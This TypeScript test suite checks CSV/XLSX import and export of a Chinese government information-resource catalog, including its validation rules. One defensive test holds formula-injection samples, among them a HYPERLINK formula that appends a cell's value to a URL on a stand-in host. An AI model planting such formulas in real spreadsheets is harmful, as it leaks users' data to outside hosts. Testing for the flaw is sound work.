import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import {
  COLUMNS,
  parseCatalogFile,
  problemLocation,
  serializeCatalogFile,
  toRow,
  type FileEntry,
  type ImportOptions,
} from '../../src/modules/catalogs/catalog-file';
import { restrictsToOrganizations, validateEntry, type EntryData } from '../../src/modules/catalogs/catalog-entry.validation';
import { CatalogFileFormat, SharingMethod, SharingType } from '../../src/modules/catalogs/catalog.enums';
import { sampleFileEntries } from './fixtures';

const PROVIDER = '吉安市公安局';
const options: ImportOptions = { resolveProvider: (name) => (name === PROVIDER ? 'gaj-id' : null), existingCodes: new Set() };

const asData = (entries: FileEntry[]): EntryData[] => entries.map(({ providerName: _n, ...rest }) => ({ ...rest, providerId: 'gaj-id' }));

/** The rows of a CSV as arrays of cells (BOM removed). */
const csvRows = (buf: Buffer): string[][] => parse(buf.toString('utf8'), { bom: true, relax_column_count: true });
const csvOf = (rows: string[][]) => Buffer.from('\ufeff' + rows.map((r) => r.map((c) => (/[",\n;]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',')).join('\r\n'), 'utf8');
const col = (name: string) => COLUMNS.indexOf(name as (typeof COLUMNS)[number]);

describe('catalog files in the national template (pure)', () => {
  const entries = sampleFileEntries(200);

  it('exports 200 entries to CSV and imports them back identical, byte for byte on re-export', async () => {
    const csv = await serializeCatalogFile(CatalogFileFormat.CSV, entries);
    expect(csv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csvRows(csv)[0]).toEqual([...COLUMNS]);
    const back = await parseCatalogFile(CatalogFileFormat.CSV, csv, options);
    expect(back.problems).toEqual([]);
    expect(back.entries.map((e) => e.data)).toEqual(asData(entries));
    expect(back.entries.map((e) => e.row)).toEqual(entries.map((_, i) => i + 2));
    const again = await serializeCatalogFile(CatalogFileFormat.CSV, back.entries.map(({ data: { providerId: _p, ...rest } }) => ({ ...rest, providerName: PROVIDER })));
    expect(again.equals(csv)).toBe(true);
  });

  it('PM-9(3) exports: a CSV cell a spreadsheet would run as a formula is written as text, and imports back exactly', async () => {
    const risky = sampleFileEntries(6).map((e) => ({ ...e }));
    risky[0].resourceName = '=1+1';
    risky[1].abstract = '-5';
    risky[2].notSharedBasis = '@x';
    risky[3].resourceName = '=HYPERLINK("http://x/?"&A2,"点击")';
    risky[4].abstract = "'=already quoted";
    risky[5].resourceName = "'5 inch";
    risky[0].informationItems = [{ name: '+86电话', dataType: risky[0].informationItems[0]?.dataType ?? ('CHARACTER' as never) }];
    const csv = await serializeCatalogFile(CatalogFileFormat.CSV, risky);
    const cells = csvRows(csv).slice(1).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining(["'=1+1", "'-5", "'@x", `'=HYPERLINK("http://x/?"&A2,"点击")`, "''=already quoted", "''5 inch"]));
    const back = await parseCatalogFile(CatalogFileFormat.CSV, csv, options);
    expect(back.problems).toEqual([]);
    expect(back.entries.map((e) => e.data)).toEqual(asData(risky));
    const again = await serializeCatalogFile(CatalogFileFormat.CSV, back.entries.map(({ data: { providerId: _p, ...rest } }) => ({ ...rest, providerName: PROVIDER })));
    expect(again.equals(csv)).toBe(true);
  });

  it('reads a CSV saved by a spreadsheet as it stands: formulas typed as text, and a leading quote before plain text, are kept', async () => {
    const rows = [[...COLUMNS], ...sampleFileEntries(2).map(toRow)];
    rows[1][col('信息资源名称')] = '=1+1';
    rows[2][col('信息资源名称')] = "'5 inch";
    const back = await parseCatalogFile(CatalogFileFormat.CSV, csvOf(rows), options);
    expect(back.problems).toEqual([]);
    expect(back.entries.map((e) => e.data.resourceName)).toEqual(['=1+1', "'5 inch"]);
  });

  it('exports 200 entries to XLSX and imports them back identical; every cell is text', async () => {
    const xlsx = await serializeCatalogFile(CatalogFileFormat.XLSX, entries);
    const back = await parseCatalogFile(CatalogFileFormat.XLSX, xlsx, options);
    expect(back.problems).toEqual([]);
    expect(back.entries.map((e) => e.data)).toEqual(asData(entries));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
    const sheet = wb.worksheets[0];
    expect(sheet.name).toBe('信息资源目录');
    expect(sheet.getRow(1).values).toEqual([undefined, ...COLUMNS]);
    expect(sheet.getCell(2, col('项') + 1).value).toBe(entries[0].itemCode); // "01", not 1
    const reparsed = await parseCatalogFile(
      CatalogFileFormat.XLSX,
      await serializeCatalogFile(CatalogFileFormat.XLSX, back.entries.map(({ data: { providerId: _p, ...rest } }) => ({ ...rest, providerName: PROVIDER }))),
      options,
    );
    expect(reparsed.entries).toEqual(back.entries);
  });

  it('an empty catalog gives the blank template: the header row only', async () => {
    const csv = await serializeCatalogFile(CatalogFileFormat.CSV, []);
    expect(csvRows(csv)).toEqual([[...COLUMNS]]);
    expect((await parseCatalogFile(CatalogFileFormat.CSV, csv, options)).entries).toEqual([]);
  });

  it('refuses a whole CSV for one bad cell and names its row and column (PM-9(3))', async () => {
    const rows = [[...COLUMNS], ...entries.slice(0, 10).map(toRow)];
    rows[6][col('共享类型')] = '部分共享'; // spreadsheet row 7
    const result = await parseCatalogFile(CatalogFileFormat.CSV, csvOf(rows), options);
    expect(result.entries).toEqual([]);
    expect(result.problems).toHaveLength(1);
    expect(problemLocation(result.problems[0])).toBe('row 7, column 共享类型');
    expect(result.problems[0].message.zh).toContain('无条件共享');
  });

  it('refuses a whole XLSX for one bad cell and names its row and column', async () => {
    const xlsx = await serializeCatalogFile(CatalogFileFormat.XLSX, entries.slice(0, 10));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
    wb.worksheets[0].getCell(5, col('更新周期') + 1).value = '每两周';
    const bad = Buffer.from(await wb.xlsx.writeBuffer());
    const result = await parseCatalogFile(CatalogFileFormat.XLSX, bad, options);
    expect(result.entries).toEqual([]);
    expect(result.problems.map(problemLocation)).toEqual(['row 5, column 更新周期']);
  });

  it('reports each PM-9(3) refusal of a row on its column, all at once', async () => {
    const rows = [[...COLUMNS], ...entries.slice(0, 6).map(toRow)];
    const conditional = entries.findIndex((e, i) => i < 6 && e.sharingType === SharingType.CONDITIONAL) + 1;
    const notShared = entries.findIndex((e, i) => i < 6 && e.sharingType === SharingType.NOT_SHARED) + 1;
    const shared = entries.findIndex((e, i) => i < 6 && e.sharingType === SharingType.UNCONDITIONAL) + 1;
    rows[conditional][col('共享条件')] = '';
    rows[notShared][col('不予共享依据')] = '';
    rows[shared][col('仅向特定企业、社会组织开放')] = '某某数据科技有限公司';
    rows[5][col('信息资源代码')] = rows[4][col('信息资源代码')];
    rows[5][col('类')] = rows[4][col('类')];
    rows[5][col('项')] = rows[4][col('项')];
    rows[5][col('目')] = rows[4][col('目')];
    rows[5][col('细目')] = rows[4][col('细目')];
    const result = await parseCatalogFile(CatalogFileFormat.CSV, csvOf(rows), options);
    expect(result.entries).toEqual([]);
    expect(result.problems.map(problemLocation).sort()).toEqual(
      [
        `row ${conditional + 1}, column 共享条件`,
        `row ${notShared + 1}, column 不予共享依据`,
        `row ${shared + 1}, column 仅向特定企业、社会组织开放`,
        'row 5, column 信息资源代码',
        'row 6, column 信息资源代码',
      ].sort(),
    );
  });

  it('refuses codes the catalog already has (APPEND), unknown providers, and malformed items', async () => {
    const rows = [[...COLUMNS], ...entries.slice(0, 3).map(toRow)];
    rows[1][col('信息资源提供方')] = '某某公司';
    rows[2][col('信息项')] = '姓名-字符型C';
    const result = await parseCatalogFile(CatalogFileFormat.CSV, csvOf(rows), { ...options, existingCodes: new Set([entries[2].resourceCode]) });
    expect(result.problems.map(problemLocation)).toEqual(['row 2, column 信息资源提供方', 'row 3, column 信息项', 'row 4, column 信息资源代码']);
  });

  it('checks the header: missing, unknown and repeated columns; title rows and 序号 are allowed', async () => {
    const missing = COLUMNS.filter((c) => c !== '共享条件');
    const r1 = await parseCatalogFile(CatalogFileFormat.CSV, csvOf([[...missing, '备注']]), options);
    expect(r1.problems.map(problemLocation)).toEqual(['row 1, column 备注', 'row 1, column 共享条件']);
    const titled = [['吉安市公安局政务信息资源目录'], ['序号', ...COLUMNS], ['1', ...toRow(entries[0])]];
    const r2 = await parseCatalogFile(CatalogFileFormat.CSV, csvOf(titled), options);
    expect(r2.problems).toEqual([]);
    expect(r2.entries).toEqual([{ row: 3, data: asData(entries.slice(0, 1))[0] }]);
    const r3 = await parseCatalogFile(CatalogFileFormat.CSV, csvOf([['a', 'b'], ['1', '2']]), options);
    expect(r3.problems.map(problemLocation)).toEqual(['row 1']);
  });

  it('reads GB18030 CSV (spreadsheets on Chinese Windows) and skips blank lines', async () => {
    const utf8 = (await serializeCatalogFile(CatalogFileFormat.CSV, entries.slice(0, 2))).toString('utf8').slice(1) + '\r\n\r\n';
    // Encode as GB18030 by hand: only the characters of this file are needed, so use a round trip through TextDecoder.
    const gb = encodeGb18030(utf8);
    const result = await parseCatalogFile(CatalogFileFormat.CSV, gb, options);
    expect(result.problems).toEqual([]);
    expect(result.entries.map((e) => e.data)).toEqual(asData(entries.slice(0, 2)));
  });

  it('refuses what is not a spreadsheet', async () => {
    const result = await parseCatalogFile(CatalogFileFormat.XLSX, Buffer.from('not a zip'), options);
    expect(result.problems).toEqual([{ row: null, column: null, message: expect.objectContaining({ en: 'The file is not a valid XLSX file' }) }]);
  });

  it('reads cells a spreadsheet typed as numbers and dates, on the sheet that has the template', async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('填写说明').addRow(['共享类型填写“无条件共享”“有条件共享”或“不予共享”']);
    const sheet = wb.addWorksheet('目录');
    sheet.addRow([...COLUMNS]);
    const row = toRow({ ...entries[1], classCode: '3', publishDate: '2026-03-15' }) as unknown[];
    row[col('类')] = 3;
    row[col('发布日期')] = new Date(Date.UTC(2026, 2, 15));
    sheet.addRow(row);
    const result = await parseCatalogFile(CatalogFileFormat.XLSX, Buffer.from(await wb.xlsx.writeBuffer()), options);
    expect(result.problems).toEqual([]);
    expect(result.entries[0].data).toMatchObject({ classCode: '3', publishDate: '2026-03-15' });
  });
});

describe('entry validation (PM-9(3))', () => {
  const [base] = asData(sampleFileEntries(1));
  const shared: EntryData = { ...base, sharingType: SharingType.UNCONDITIONAL, sharingMethod: SharingMethod.PLATFORM_INTERFACE, sharingCondition: null, notSharedBasis: null };

  it('accepts a complete shareable entry (allowed path)', () => {
    expect(validateEntry(shared)).toEqual([]);
  });

  it('PM-9(3): refuses shareable data restricted to named companies or organizations, in the field or in a condition', () => {
    expect(validateEntry({ ...shared, restrictedToOrganizations: ['某某科技有限公司'] }).map((p) => p.field)).toEqual(['restrictedToOrganizations']);
    const conditional = { ...shared, sharingType: SharingType.CONDITIONAL, sharingCondition: '仅向某某数据科技有限公司开放' };
    expect(validateEntry(conditional).map((p) => p.field)).toEqual(['sharingCondition']);
    // Not shared at all: naming the organizations it goes to by law is a record, not a restriction of shared data.
    expect(validateEntry({ ...shared, sharingType: SharingType.NOT_SHARED, sharingMethod: null, notSharedBasis: '《征信业管理条例》', restrictedToOrganizations: ['中国人民银行征信中心'] })).toEqual([]);
  });

  it('tells a restriction from a prohibition in condition text', () => {
    expect(restrictsToOrganizations('仅向某某科技有限公司开放')).toBe(true);
    expect(restrictsToOrganizations('仅供市卫健委合作企业使用')).toBe(true);
    expect(restrictsToOrganizations('仅限政务部门使用，不得向企业提供')).toBe(false);
    expect(restrictsToOrganizations('仅限政务部门使用不得向企业提供')).toBe(false);
    expect(restrictsToOrganizations('仅向市大数据中心提供')).toBe(false);
  });

  it('PM-9(3): refuses a conditional entry without its condition and a not-shared entry without its legal basis', () => {
    expect(validateEntry({ ...shared, sharingType: SharingType.CONDITIONAL }).map((p) => p.field)).toEqual(['sharingCondition']);
    expect(validateEntry({ ...shared, sharingType: SharingType.NOT_SHARED, sharingMethod: null }).map((p) => p.field)).toEqual(['notSharedBasis']);
  });

  it('checks the code against the classification, and the guide formats', () => {
    expect(validateEntry({ ...shared, resourceCode: '399999/00001' }).map((p) => p.field)).toEqual(['resourceCode']);
    expect(validateEntry({ ...shared, resourceCode: '3-01/1' }).map((p) => p.field)).toEqual(['resourceCode']);
    expect(validateEntry({ ...shared, itemCode: '1', resourceCode: '31001/1' }).map((p) => p.field)).toEqual(['itemCode']);
    expect(validateEntry({ ...shared, sharingMethod: null }).map((p) => p.field)).toEqual(['sharingMethod']);
    expect(validateEntry({ ...shared, publishDate: '2026-02-30' }).map((p) => p.field)).toEqual(['publishDate']);
    expect(validateEntry({ ...shared, relatedResourceCodes: [shared.resourceCode] }).map((p) => p.field)).toEqual(['relatedResourceCodes']);
  });
});

/** GB18030 bytes of a string, built from the decoder itself (Node has no GB encoder). */
function encodeGb18030(text: string): Buffer {
  const decoder = new TextDecoder('gb18030');
  const table = new Map<string, number[]>();
  for (let hi = 0x81; hi <= 0xfe; hi++) {
    for (let lo = 0x40; lo <= 0xfe; lo++) {
      if (lo === 0x7f) continue;
      const ch = decoder.decode(Uint8Array.from([hi, lo]));
      if (ch.length === 1 && !table.has(ch)) table.set(ch, [hi, lo]);
    }
  }
  const bytes: number[] = [];
  for (const ch of text) {
    if (ch.charCodeAt(0) < 0x80) bytes.push(ch.charCodeAt(0));
    else {
      const b = table.get(ch);
      if (!b) throw new Error(`no GB18030 two-byte code for ${ch}`);
      bytes.push(...b);
    }
  }
  return Buffer.from(bytes);
}
